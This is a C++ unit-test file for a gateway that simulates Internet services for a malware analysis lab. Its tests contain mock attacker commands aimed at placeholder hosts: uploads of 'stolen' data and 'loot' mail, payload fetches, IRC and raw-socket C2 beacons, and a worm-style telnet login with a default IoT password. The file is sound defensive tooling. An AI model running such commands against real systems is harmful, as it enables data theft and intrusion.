// Real clients against the simulated Internet, one protocol a test.
#include <gmock/gmock.h>

#include "gateway/testing.h"

namespace shikake::gateway {
namespace {

using testing::HasSubstr;
using testing::Not;
using testing::StartsWith;

// The weaker position finds more: what works for an ordinary user works for root (gateway_test.cpp does
// both).
void in_lab(const std::function<void(Lab&)>& body, const GatewayPlan& plan = {}) {
  in_private_network(false, [&] {
    Lab lab(plan);
    ASSERT_TRUE(lab.ok());
    body(lab);
    auto ended = lab.finish();
    EXPECT_TRUE(ended) << ended.error().message();
  });
}

GatewayPlan with_replies(const char* toml) {
  GatewayPlan plan;
  auto replies = Replies::parse(toml, ".");
  EXPECT_TRUE(replies) << replies.error().message();
  if (replies) plan.replies = std::move(*replies);
  return plan;
}

TEST(Responders, HttpsWithACertificateThatTheCellTrusts) {
  in_lab([](Lab& lab) {
    EXPECT_THAT(lab.run("curl -sS https://shop.example/pay -d card=1").text, HasSubstr("It works"));
    EXPECT_THAT(
        lab.run("curl -sS --tlsv1.0 --tls-max 1.2 --ciphers DEFAULT@SECLEVEL=0 https://old.example:8443/")
            .text,
        HasSubstr("It works"));
    EXPECT_THAT(lab.run("curl -sS https://203.0.113.7/").text, HasSubstr("It works"));
    ASSERT_TRUE(lab.finish());
    const Flow* flow = lab.seen.flow("http");
    ASSERT_TRUE(flow);
    EXPECT_EQ(flow->tls.sni, "shop.example");
    EXPECT_EQ(flow->tls.version, "TLSv1.3");
    EXPECT_EQ(flow->tls.alpn, "h2,http/1.1");
    EXPECT_EQ(flow->tls.ja3.size(), 32U);
    EXPECT_THAT(flow->tls.ja3_text, StartsWith("771,"));
    EXPECT_TRUE(flow->tls.intercepted);
    EXPECT_EQ(flow->tls.rejected, "");
    EXPECT_THAT(lab.seen.stream(*flow, true), StartsWith("POST /pay HTTP/1.1\r\n"));
    EXPECT_THAT(lab.seen.stream(*flow, true), HasSubstr("card=1"));
  });
}

TEST(Responders, APinnedTlsClientStillSaysWhoItIs) {
  in_lab([](Lab& lab) {
    lab.run("curl -s --cacert /etc/hosts https://refuses.example/");
    lab.run(
        "curl -s --pinnedpubkey sha256//AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA= https://pins.example/");
    ASSERT_TRUE(lab.finish());
    std::map<std::string, const Flow*> by_host;
    for (const auto& [id, flow] : lab.seen.flows)
      if (flow.transport == Transport::tcp) by_host[flow.host] = &flow;
    ASSERT_TRUE(by_host.contains("pins.example"));
    EXPECT_EQ(by_host["pins.example"]->tls.ja3.size(), 32U);
    EXPECT_NE(by_host["pins.example"]->tls.rejected, "");
    EXPECT_EQ(by_host["pins.example"]->tls.sni, "pins.example");
  });
  in_lab([](Lab& lab) {
    // Trusts another authority: refuses within the handshake, with an alert.
    lab.run(
        "c=$(mktemp); openssl req -x509 -newkey rsa:2048 -nodes -keyout /dev/null -out $c -subj /CN=other "
        "-days 1 "
        "2>/dev/null; curl -s --cacert $c https://refuses.example/; rm -f $c");
    ASSERT_TRUE(lab.finish());
    const Flow* flow = lab.seen.flow("tls");
    ASSERT_TRUE(flow);
    EXPECT_EQ(flow->tls.rejected, "tlsv1 alert unknown ca");
    EXPECT_EQ(flow->tls.sni, "refuses.example");
    EXPECT_EQ(flow->tls.version, "");
    EXPECT_FALSE(flow->tls.intercepted);
    EXPECT_THAT(lab.seen.stream(*flow, true), StartsWith("\x16\x03"));
  });
}

// Suites without ECDSA, with and without forward secrecy; and TLS 1.3, where signature algorithms alone tell.
TEST(Responders, ClientsThatTakeRsaAloneAreServed) {
  in_lab([](Lab& lab) {
    for (const char* how :
         {"--tls-max 1.2 --ciphers AES128-SHA", "--tls-max 1.2 --ciphers ECDHE-RSA-AES128-GCM-SHA256"})
      EXPECT_THAT(lab.run(std::string("curl -sS ") + how + " https://old.example/").text,
                  HasSubstr("It works"))
          << how;
    EXPECT_THAT(
        lab.run("printf 'GET / HTTP/1.0\\r\\n\\r\\n' | openssl s_client -quiet -verify_return_error -tls1_3 "
                "-sigalgs RSA-PSS+SHA256 -connect new.example:443 -servername new.example 2>&1")
            .text,
        HasSubstr("It works"));
    // Others get what they got before.
    EXPECT_THAT(
        lab.run("echo | openssl s_client -connect new.example:443 -servername new.example 2>/dev/null").text,
        HasSubstr("type: ECDSA"));
    ASSERT_TRUE(lab.finish());
    int opened = 0;
    for (const auto& [id, flow] : lab.seen.flows) opened += flow.tls.intercepted;
    EXPECT_EQ(opened, 4);
  });
}

// HTTP/2 is not offered: clients that would like it fall back, those that insist are told no and stand in the
// record.
TEST(Responders, ClientsThatWouldLikeHttp2FallBack) {
  in_lab([](Lab& lab) {
    EXPECT_EQ(lab.run("curl -sS --http2 -o /dev/null -w %{http_version} https://two.example/").text, "1.1");
    EXPECT_EQ(lab.run("curl -sS --http2 -o /dev/null -w %{http_version} http://upgrade.example/").text,
              "1.1");
    EXPECT_NE(lab.run("curl -sS --http2-prior-knowledge -m 20 http://insists.example/").status, 0);
    EXPECT_THAT(lab.run("curl -sS http://after.example/").text, HasSubstr("It works"));
    ASSERT_TRUE(lab.finish());
    bool seen = false;
    for (const auto& [id, flow] : lab.seen.flows)
      if (flow.host == "insists.example" || lab.seen.stream(flow, true).starts_with("PRI * HTTP/2.0"))
        seen = true;
    EXPECT_TRUE(seen);
  });
}

TEST(Responders, FtpListsGivesAndTakesFiles) {
  in_lab([](Lab& lab) {
    EXPECT_THAT(lab.run("curl -sS ftp://user:pw@drop.example/tool.sh").text, StartsWith("#!/bin/sh"));
    EXPECT_EQ(lab.run("echo stolen | curl -sS -T - ftp://drop.example/loot.txt").status, 0);
    EXPECT_EQ(lab.run("curl -sS ftp://drop.example/").status, 0);
    EXPECT_THAT(lab.run("curl -sS -g 'ftp://[2001:db8::21]/a.txt'").text, "ok\n");
    ASSERT_TRUE(lab.finish());
    const Flow* control = lab.seen.flow("ftp");
    ASSERT_TRUE(control);
    EXPECT_EQ(control->detail, "USER user");
    std::string taken;
    for (const auto& [id, flow] : lab.seen.flows) {
      if (flow.protocol != "ftp-data") continue;
      EXPECT_TRUE(flow.host == "drop.example" || flow.remote.address == "2001:db8::21") << flow.host;
      taken += lab.seen.stream(flow, true);
    }
    EXPECT_EQ(taken, "stolen\n");
  });
}

TEST(Responders, FtpOverTls) {
  in_lab([](Lab& lab) {
    EXPECT_THAT(lab.run("curl -sS --ssl-reqd ftp://drop.example/tool.sh").text, StartsWith("#!/bin/sh"));
    EXPECT_THAT(lab.run("curl -sS ftps://drop.example/tool.sh").text, StartsWith("#!/bin/sh"));
  });
}

TEST(Responders, AnInteractiveFtpClient) {
  SHIKAKE_NEED_PROGRAM("lftp");
  in_lab([](Lab& lab) {
    Output output = lab.run(
        "HOME=/nonexistent lftp -c 'set net:timeout 5; set net:max-retries 1; "
        "set ftp:ssl-allow no; open -u bot,pw c2.example; cat payload.sh; mkdir x; cd /x; pwd'");
    EXPECT_THAT(output.text, HasSubstr("#!/bin/sh"));
    EXPECT_EQ(output.status, 0) << output.text;
  });
}

TEST(Responders, SmtpTakesMail) {
  in_lab([](Lab& lab) {
    const std::string mail = "printf 'Subject: loot\\r\\n\\r\\nall of it\\r\\n' | ";
    EXPECT_EQ(
        lab.run(mail + "curl -sS smtp://mx.example --mail-from a@b.example --mail-rcpt c@d.example -T -")
            .status,
        0);
    EXPECT_EQ(
        lab.run(mail + "curl -sS --ssl-reqd smtp://mx.example:587 -u user:pw --login-options AUTH=LOGIN "
                       "--mail-from a@b.example --mail-rcpt c@d.example -T -")
            .status,
        0);
    EXPECT_EQ(lab.run(mail + "curl -sS smtps://mx.example -u user:pw --mail-from a@b.example "
                             "--mail-rcpt c@d.example -T -")
                  .status,
              0);
    ASSERT_TRUE(lab.finish());
    int mails = 0;
    for (const auto& [id, flow] : lab.seen.flows) {
      if (flow.protocol != "smtp") continue;
      ++mails;
      EXPECT_THAT(lab.seen.stream(flow, true), HasSubstr("all of it"));
      EXPECT_EQ(flow.tls.seen, flow.remote.port != 25);
      EXPECT_EQ(flow.tls.ja3.size(), flow.tls.seen ? 32U : 0U);
      EXPECT_THAT(lab.seen.stream(flow, true), Not(HasSubstr("\x16\x03")));  // plaintext, without TLS' own
    }
    EXPECT_EQ(mails, 3);
  });
}

TEST(Responders, BehindAProxyTheConversationGoesOn) {
  in_lab([](Lab& lab) {
    EXPECT_THAT(lab.run("curl -sS -x http://proxy.example:3128 https://hidden.example/x").text,
                HasSubstr("It works"));
    EXPECT_THAT(lab.run("curl -sS -p -x http://proxy.example:3128 http://plain.example/y").text,
                HasSubstr("It works"));
    ASSERT_TRUE(lab.finish());
    for (const auto& [id, flow] : lab.seen.flows) {
      if (flow.transport != Transport::tcp) continue;
      EXPECT_THAT(flow.host, testing::AnyOf("hidden.example", "plain.example"));
      EXPECT_THAT(lab.seen.stream(flow, true),
                  testing::AnyOf(HasSubstr("GET /x HTTP"), HasSubstr("GET /y HTTP")));
    }
  });
}

TEST(Responders, Pop3GivesAnEmptyMailbox) {
  in_lab([](Lab& lab) {
    EXPECT_EQ(lab.run("curl -sS pop3://user:pw@mail.example/").status, 0);
    EXPECT_EQ(lab.run("curl -sS pop3s://user:pw@mail.example/").status, 0);
    ASSERT_TRUE(lab.finish());
    EXPECT_TRUE(lab.seen.flow("pop3"));
  });
}

TEST(Responders, IrcLetsABotJoinItsChannel) {
  in_lab([](Lab& lab) {
    Output output = lab.run(
        "(printf 'NICK bot-7\\r\\nUSER bot 0 * :bot\\r\\n'; sleep 0.3; printf 'JOIN #c2\\r\\nPING "
        ":42\\r\\n'; "
        "sleep 0.3; printf 'QUIT\\r\\n'; sleep 0.2) | nc -w 2 irc.example 31337");
    EXPECT_THAT(output.text, HasSubstr(" 001 bot-7 "));
    EXPECT_THAT(output.text, HasSubstr("JOIN :#c2"));
    EXPECT_THAT(output.text, HasSubstr("PONG irc.example :42"));
    ASSERT_TRUE(lab.finish());
    const Flow* flow = lab.seen.flow("irc");
    ASSERT_TRUE(flow);
    EXPECT_EQ(flow->detail, "NICK bot-7 JOIN #c2");
  });
}

TEST(Responders, TelnetGreetsAndLetsAWormIn) {
  in_lab([](Lab& lab) {
    Output output = lab.run(
        "(sleep 0.4; printf 'root\\r\\n'; sleep 0.2; printf 'xc3511\\r\\n'; sleep 0.2; "
        "printf '/bin/busybox ECCHI\\r\\nexit\\r\\n'; sleep 0.2) | nc -w 2 198.51.100.9 23");
    EXPECT_THAT(output.text, HasSubstr("login: "));
    EXPECT_THAT(output.text, HasSubstr("ECCHI: applet not found"));
    ASSERT_TRUE(lab.finish());
    const Flow* flow = lab.seen.flow("telnet");
    ASSERT_TRUE(flow);
    EXPECT_EQ(flow->detail, "login root");
  });
}

TEST(Responders, ASilentClientIsGreeted) {
  in_lab([](Lab& lab) {
    EXPECT_THAT(lab.run("nc -w 5 198.51.100.9 21 </dev/null").text, StartsWith("220 "));
    EXPECT_EQ(lab.run("(sleep 4; printf 'USER x\\r\\n'; sleep 0.3) | nc -w 5 -q 0 198.51.100.9 999").text,
              "220 ready\r\n331 Please specify the password.\r\n");
  });
}

TEST(Responders, NtpHasTheCellsTime) {
  SHIKAKE_NEED_PROGRAM("ntpdate");
  in_lab([](Lab& lab) {
    EXPECT_THAT(lab.run("ntpdate -q pool.ntp.example").text, testing::ContainsRegex("[+-]0\\.0"));
    ASSERT_TRUE(lab.gateway().set_clock(std::chrono::hours(1)));
    lab.pump(300);
    EXPECT_THAT(lab.run("ntpdate -q pool.ntp.example").text, testing::ContainsRegex("[+](3600\\.|3599\\.9)"));
    ASSERT_TRUE(lab.finish());
    EXPECT_TRUE(lab.seen.flow("ntp"));
  });
}

TEST(Responders, PingOfAnyAddress) {
  SHIKAKE_NEED_PROGRAM("ping");
  // As root, who has the one capability that ping needs where ping_group_range is not to be had.
  in_private_network(true, [] {
    Lab lab;
    ASSERT_TRUE(lab.ok());
    EXPECT_THAT(lab.run("ping -n -c 2 -i 0.2 -W 2 8.8.8.8").text, HasSubstr("2 received"));
    EXPECT_THAT(lab.run("ping -n -c 1 -W 2 -p 5ec2e7 2001:db8::99").text, HasSubstr("1 received"));
    ASSERT_TRUE(lab.finish());
    const Flow* flow = lab.seen.flow("icmp-echo");
    ASSERT_TRUE(flow);
    EXPECT_EQ(flow->remote.address, "8.8.8.8");
    EXPECT_EQ(flow->out.bytes, 2U * 56);
    EXPECT_EQ(flow->in.bytes, 2U * 56);
  });
}

TEST(Responders, DnsOverTlsAndHttps) {
  SHIKAKE_NEED_PROGRAM("kdig");
  in_lab([](Lab& lab) {
    const std::string plain = lab.run("kdig +short hidden.example").text;
    EXPECT_THAT(plain, StartsWith("198.1"));
    EXPECT_EQ(lab.run("kdig +short +tls @9.9.9.9 hidden.example").text, plain);
    EXPECT_THAT(lab.run("curl -sS --doh-url https://dns.example/dns-query http://hidden.example/").text,
                HasSubstr("It works"));
    ASSERT_TRUE(lab.finish());
    EXPECT_TRUE(lab.seen.flow("dot"));
    EXPECT_TRUE(lab.seen.flow("doh"));
    std::set<std::string> over;
    for (const DnsLookup& lookup : lab.seen.lookups)
      if (lookup.name == "hidden.example") over.insert(lookup.over);
    EXPECT_EQ(over, (std::set<std::string>{"udp", "tls", "https"}));
  });
}

TEST(Responders, QuicIsRefusedSoThatClientsFallBack) {
  in_lab([](Lab& lab) {
    for (const char* address : {"203.0.113.80", "2001:db8::80"}) {
      Output output = lab.run(std::string("/usr/bin/python3 -c \"\nimport socket,sys\n"
                                          "s=socket.socket(socket.AF_INET6 if ':' in '") +
                              address +
                              "' else "
                              "socket.AF_INET,socket.SOCK_DGRAM)\ns.settimeout(3)\ns.connect(('" +
                              address +
                              "',443))\n"
                              "s.send(b'\\xc3\\0\\0\\0\\1'+bytes(1200))\n"
                              "try: s.recv(9)\nexcept ConnectionRefusedError: print('refused')\n\"");
      EXPECT_EQ(output.text, "refused\n");
    }
    ASSERT_TRUE(lab.finish());
    const Flow* flow = lab.seen.flow("quic");
    ASSERT_TRUE(flow);
    EXPECT_EQ(flow->handling, Handling::refused);
  });
}

TEST(Responders, RawBytesAreKept) {
  in_lab([](Lab& lab) {
    lab.run("printf '\\001\\002beacon' | nc -N -w 2 c2.example 4444");
    lab.run("printf 'hello udp' | nc -u -w 1 c2.example 5555");
    ASSERT_TRUE(lab.finish());
    std::map<Transport, std::string> streams;
    for (const auto& [id, flow] : lab.seen.flows) {
      if (flow.protocol != "raw") continue;
      EXPECT_EQ(flow.host, "c2.example");
      streams[flow.transport] = lab.seen.stream(flow, true);
    }
    EXPECT_EQ(streams[Transport::tcp], "\001\002beacon");
    EXPECT_EQ(streams[Transport::udp], "hello udp");
  });
}

TEST(Responders, ScriptedRepliesComeFirst) {
  constexpr const char* toml = R"(
[[http]]
host = "*.evil.example"
path = "/gate*"
method = "POST"
times = 1
status = 418
headers = { "X-Task" = "sleep", "Set-Cookie" = ["a=1", "b=2"] }
body = "run calc\n"

[[http]]
host = "raw.example"
raw = "HTTP/1.1 200 FINE\r\n\r\nraw!"

[[tcp]]
host = "c2.example"
port = 4444
steps = [
  { send = "hello\n" },
  { expect = "LOGIN", send = "ok\n" },
  { expect = "BYE", close = true },
]

[[udp]]
port = 7000
steps = [ { expect = "ping", send = "pong" }, { send = "what?" } ]

[[dns]]
name = "*.kill.example"
code = "nxdomain"

[[dns]]
name = "cmd.example"
type = "TXT"
value = "exec 1"
)";
  in_lab(
      [](Lab& lab) {
        Output first = lab.run("curl -si -X POST http://a.evil.example/gate.php");
        EXPECT_THAT(first.text, HasSubstr("418"));
        EXPECT_THAT(first.text, HasSubstr("Set-Cookie: b=2"));
        EXPECT_THAT(first.text, HasSubstr("\r\n\r\nrun calc\n"));
        EXPECT_THAT(lab.run("curl -si -X POST http://a.evil.example/gate.php").text, HasSubstr("It works"));
        EXPECT_EQ(lab.run("curl -s http://raw.example/x").text, "raw!");
        EXPECT_THAT(lab.run("curl -s https://raw.example/x").text, "raw!");
        EXPECT_EQ(
            lab.run("(sleep 0.3; printf 'LOG'; sleep 0.1; printf 'IN me'; sleep 0.1; printf BYE; sleep 3) | "
                    "timeout 2 nc c2.example 4444")
                .text,
            "hello\nok\n");
        EXPECT_EQ(lab.run("printf ping | nc -u -w 1 9.9.9.9 7000").text, "pong");
        EXPECT_EQ(lab.run("printf else | nc -u -w 1 9.9.9.9 7000").text, "what?");
        EXPECT_THAT(lab.run("dig a.kill.example").text, HasSubstr("NXDOMAIN"));
        EXPECT_EQ(lab.run("dig +short cmd.example TXT").text, "\"exec 1\"\n");
        ASSERT_TRUE(lab.finish());
        const Flow* scripted = nullptr;
        for (const auto& [id, flow] : lab.seen.flows)
          if (flow.remote.port == 4444) scripted = &flow;
        ASSERT_TRUE(scripted);
        EXPECT_EQ(scripted->handling, Handling::scripted);
        EXPECT_EQ(scripted->rule, "replies line 15");
      },
      with_replies(toml));
}

}  // namespace
}  // namespace shikake::gateway
